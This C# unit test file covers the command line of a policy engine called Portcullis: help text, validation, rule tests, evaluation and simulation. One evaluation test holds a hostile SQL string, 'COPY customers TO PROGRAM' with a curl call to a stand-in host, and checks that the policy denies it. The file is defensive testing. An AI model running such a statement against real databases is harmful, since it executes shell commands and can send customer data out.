using System.Reflection;
using System.Text.Json;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Portcullis.Policy;

namespace Portcullis.UnitTests.Policy;

/// <summary>The policy's command line as a rule author meets it: help, exit codes, and errors that say what to do.</summary>
public sealed class PolicyCommandLineTests : IDisposable
{
    private static readonly string RepositoryPolicy = Path.Combine(typeof(PolicyCommandLineTests).Assembly
        .GetCustomAttributes<AssemblyMetadataAttribute>().Single(a => a.Key == "RepositoryRoot").Value!, "portcullis.yaml");

    private const string SmallPolicy = """
        connections:
          demo:
            kind: http
            upstream: http://127.0.0.1:9/
        policy:
          default_effect: deny
          rules:
            - id: readers-read
              effect: allow
              reason: Readers read.
              match: { connections: [demo], groups: [readers], methods: [GET] }
          tests:
            - name: readers read
              principal: { subject: r, groups: [readers] }
              action: { protocol: http, connection: demo, method: GET, path: /x }
              expect: allow
              rule: readers-read
        """;

    private readonly string _folder = Directory.CreateTempSubdirectory("policy-cli-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    private string Write(string name, string text)
    {
        var path = Path.Combine(_folder, name);
        File.WriteAllText(path, text);
        return path;
    }

    private static async Task<(int Code, string Output, string Error)> Run(params string[] args)
    {
        var (output, error) = (new StringWriter(), new StringWriter());
        var code = await PolicyCommands.InvokeAsync(args, output, error);
        return (code, output.ToString(), error.ToString());
    }

    [Fact]
    public async Task Help_lists_every_command()
    {
        var (code, output, _) = await Run("--help");
        Assert.Equal(0, code);
        foreach (var command in new[] { "validate", "test", "evaluate", "simulate" }) Assert.Contains(command, output);
    }

    [Theory]
    [InlineData("validate", "--file")]
    [InlineData("test", "--file")]
    [InlineData("evaluate", "--request")]
    [InlineData("evaluate", "--protocol <exec|http|mcp|sql>")]
    [InlineData("simulate", "--from")]
    public async Task Each_command_has_help_with_its_options(string command, string option)
    {
        var (code, output, _) = await Run(command, "--help");
        Assert.Equal(0, code);
        Assert.Contains(option, output);
        Assert.Contains("--file", output);
    }

    [Theory]
    [InlineData("validate")]
    [InlineData("test")]
    [InlineData("evaluate")]
    [InlineData("simulate")]
    [InlineData("--help")]
    public void Commands_and_help_leave_the_service_unstarted(string first) => Assert.True(PolicyCommands.IsCommand([first]));

    [Theory]
    [InlineData("--urls")]
    [InlineData("catalog")]
    [InlineData("serve")]
    public void Anything_else_starts_the_service(string first) => Assert.False(PolicyCommands.IsCommand([first, "x"]));

    [Fact]
    public async Task Validate_accepts_the_repository_policy()
    {
        var (code, output, error) = await Run("validate", "--file", RepositoryPolicy);
        Assert.True(code == 0, error);
        Assert.StartsWith("valid:", output);
        Assert.Contains("default effect Deny", output);
    }

    [Fact]
    public async Task An_invalid_policy_fails_validation_with_its_place_named()
    {
        var file = Write("bad.yaml", SmallPolicy.Replace("effect: allow", "effect: perhaps"));
        var (code, output, error) = await Run("validate", "--file", file);
        Assert.Equal(1, code);
        Assert.Empty(output);
        Assert.Contains("perhaps", error);
    }

    [Fact]
    public async Task A_key_the_policy_does_not_know_is_named_with_its_line()
    {
        var file = Write("typo.yaml", SmallPolicy.Replace("match: {", "matches: {"));
        var (code, _, error) = await Run("validate", "--file", file);
        Assert.Equal(1, code);
        Assert.Contains("line 11", error);
    }

    [Fact]
    public async Task A_missing_file_is_bad_usage()
    {
        var (code, _, error) = await Run("validate", "--file", Path.Combine(_folder, "none.yaml"));
        Assert.Equal(2, code);
        Assert.Contains("does not exist; give --file", error);
    }

    [Fact]
    public async Task Test_passes_the_repository_policy()
    {
        var (code, output, error) = await Run("test", "--file", RepositoryPolicy);
        Assert.True(code == 0, output + error);
        Assert.Contains("PASS 'agents cannot reach admin endpoints' passed", output);
        Assert.Contains(" 0 failed", output);
    }

    [Fact]
    public async Task A_failing_case_is_named_and_exits_1()
    {
        var file = Write("failing.yaml", SmallPolicy.Replace("expect: allow", "expect: deny"));
        var (code, output, _) = await Run("test", "--file", file);
        Assert.Equal(1, code);
        Assert.Contains("FAIL 'readers read': expected deny", output);
        Assert.Contains("0 passed, 1 failed", output);
    }

    [Fact]
    public async Task Evaluate_decides_an_action_given_as_options()
    {
        var (code, output, error) = await Run("evaluate", "--file", RepositoryPolicy, "--subject", "agent-1", "--group", "agents",
            "--protocol", "sql", "--connection", "warehouse", "--sql", "COPY customers TO PROGRAM 'curl https://x.example'");
        Assert.True(code == 0, error);
        var decision = JsonDocument.Parse(output).RootElement;
        Assert.Equal("Deny", decision.GetProperty("decision").GetString());
        Assert.Equal("sql-no-program", decision.GetProperty("rule").GetString());
        Assert.Contains("copy_to_program", decision.GetProperty("analysis").GetProperty("sql").GetProperty("kinds").EnumerateArray()
            .Select(k => k.GetString()));
    }

    [Fact]
    public async Task Evaluate_reads_the_request_the_api_takes_from_a_file()
    {
        var request = Write("request.json", """
            {"principal": {"subject": "agent-1", "groups": ["agents"]},
             "action": {"protocol": "http", "connection": "demo", "method": "GET", "path": "/admin/config"}}
            """);
        var (code, output, error) = await Run("evaluate", "--file", RepositoryPolicy, "--request", request);
        Assert.True(code == 0, error);
        var decision = JsonDocument.Parse(output).RootElement;
        Assert.Equal("Deny", decision.GetProperty("decision").GetString());
        Assert.Equal("agents-no-admin", decision.GetProperty("rule").GetString());
        Assert.Equal("Agents may not use admin endpoints.", decision.GetProperty("reason").GetString());
    }

    [Fact]
    public async Task Evaluate_allows_what_the_policy_allows()
    {
        var file = Write("small.yaml", SmallPolicy);
        var (code, output, _) = await Run("evaluate", "--file", file, "--subject", "r", "--group", "readers",
            "--protocol", "http", "--connection", "demo", "--method", "GET", "--path", "/x");
        Assert.Equal(0, code);
        Assert.Equal("Allow", JsonDocument.Parse(output).RootElement.GetProperty("decision").GetString());
    }

    [Theory]
    [InlineData("--protocol", "http")] // no connection
    [InlineData("--protocol", "ftp", "--connection", "demo")]
    public async Task Evaluate_without_a_whole_action_is_bad_usage(params string[] options)
    {
        var (code, _, error) = await Run(["evaluate", "--file", RepositoryPolicy, .. options]);
        Assert.Equal(2, code);
        Assert.Contains("Portcullis.Policy evaluate --help", error);
    }

    [Fact]
    public async Task Evaluate_takes_a_request_file_or_options_not_both()
    {
        var request = Write("request.json", """{"principal": {"subject": "a"}, "action": {"protocol": "http", "connection": "demo"}}""");
        var (code, _, error) = await Run("evaluate", "--file", RepositoryPolicy, "--request", request, "--protocol", "sql");
        Assert.Equal(2, code);
        Assert.Contains("not both", error);
    }

    [Fact]
    public async Task An_unreadable_request_file_is_bad_usage()
    {
        var request = Write("request.json", "{\"action\": ");
        var (code, _, error) = await Run("evaluate", "--file", RepositoryPolicy, "--request", request);
        Assert.Equal(2, code);
        Assert.Contains("request.json: not a request", error);
    }

    [Fact]
    public async Task Simulate_needs_a_token_and_says_when_the_service_cannot_be_reached()
    {
        var saved = Environment.GetEnvironmentVariable("PORTCULLIS_TOKEN");
        try
        {
            Environment.SetEnvironmentVariable("PORTCULLIS_TOKEN", null);
            var (code, _, error) = await Run("simulate", "--file", RepositoryPolicy, "--from", "2026-01-01T00:00:00Z");
            Assert.Equal(2, code);
            Assert.Contains("Set PORTCULLIS_TOKEN", error);

            Environment.SetEnvironmentVariable("PORTCULLIS_TOKEN", "not-a-token");
            (code, _, error) = await Run("simulate", "--file", RepositoryPolicy, "--from", "2026-01-01T00:00:00Z", "--url", "http://127.0.0.1:9");
            Assert.Equal(1, code);
            Assert.Contains("could not be reached", error);
            Assert.DoesNotContain("not-a-token", error);
        }
        finally
        {
            Environment.SetEnvironmentVariable("PORTCULLIS_TOKEN", saved);
        }
    }

    [Theory]
    [InlineData(true, 0)]
    [InlineData(false, 1)]
    public async Task Simulate_prints_changes_on_standard_output_and_progress_on_standard_error(bool summary, int expected)
    {
        // A stand-in for the policy service's answer, in the line format POST /policy/simulate documents.
        var builder = WebApplication.CreateSlimBuilder();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        await using var service = builder.Build();
        string? authorization = null;
        service.MapPost("/policy/simulate", async (HttpContext context) =>
        {
            authorization = context.Request.Headers.Authorization;
            context.Response.ContentType = "application/x-ndjson";
            await context.Response.WriteAsync("""{"type":"change","change":{"requestId":"r1","newEffect":"Deny"}}""" + "\n");
            await context.Response.WriteAsync("""{"type":"progress","decided":500,"changed":1}""" + "\n");
            if (summary) await context.Response.WriteAsync("""{"type":"summary","summary":{"decided":501,"changed":1}}""" + "\n");
        });
        await service.StartAsync();
        var url = service.Urls.Single();
        var saved = Environment.GetEnvironmentVariable("PORTCULLIS_TOKEN");
        try
        {
            Environment.SetEnvironmentVariable("PORTCULLIS_TOKEN", "token-1");
            var (code, output, error) = await Run("simulate", "--file", RepositoryPolicy, "--from", "2026-01-01T00:00:00Z", "--url", url);
            Assert.Equal(expected, code);
            Assert.Equal("Bearer token-1", authorization);
            Assert.Contains("\"type\":\"change\"", output);
            Assert.DoesNotContain("progress", output);
            Assert.Contains("\"type\":\"progress\",\"decided\":500", error);
            Assert.Equal(summary, output.Contains("\"type\":\"summary\""));
            if (!summary) Assert.Contains("cut short", error);
        }
        finally
        {
            Environment.SetEnvironmentVariable("PORTCULLIS_TOKEN", saved);
        }
    }

    [Fact]
    public async Task Simulate_refuses_a_service_address_that_is_not_a_url()
    {
        var (code, _, error) = await Run("simulate", "--file", RepositoryPolicy, "--from", "2026-01-01T00:00:00Z", "--url", "127.0.0.1:5101");
        Assert.Equal(2, code);
        Assert.Contains("--url must be an absolute http(s) URL", error);
    }

    [Fact]
    public async Task Simulate_refuses_a_progress_interval_that_is_not_a_positive_count()
    {
        var (code, _, error) = await Run("simulate", "--file", RepositoryPolicy, "--from", "2026-01-01T00:00:00Z", "--progress-every", "0");
        Assert.Equal(2, code);
        Assert.Contains("--progress-every is between 1 and", error);
    }

    [Fact]
    public async Task Simulate_without_a_start_is_bad_usage()
    {
        var (code, _, error) = await Run("simulate", "--file", RepositoryPolicy);
        Assert.Equal(2, code);
        Assert.Contains("'--from' is required", error);
        Assert.Contains("Portcullis.Policy simulate --help", error);
    }
}
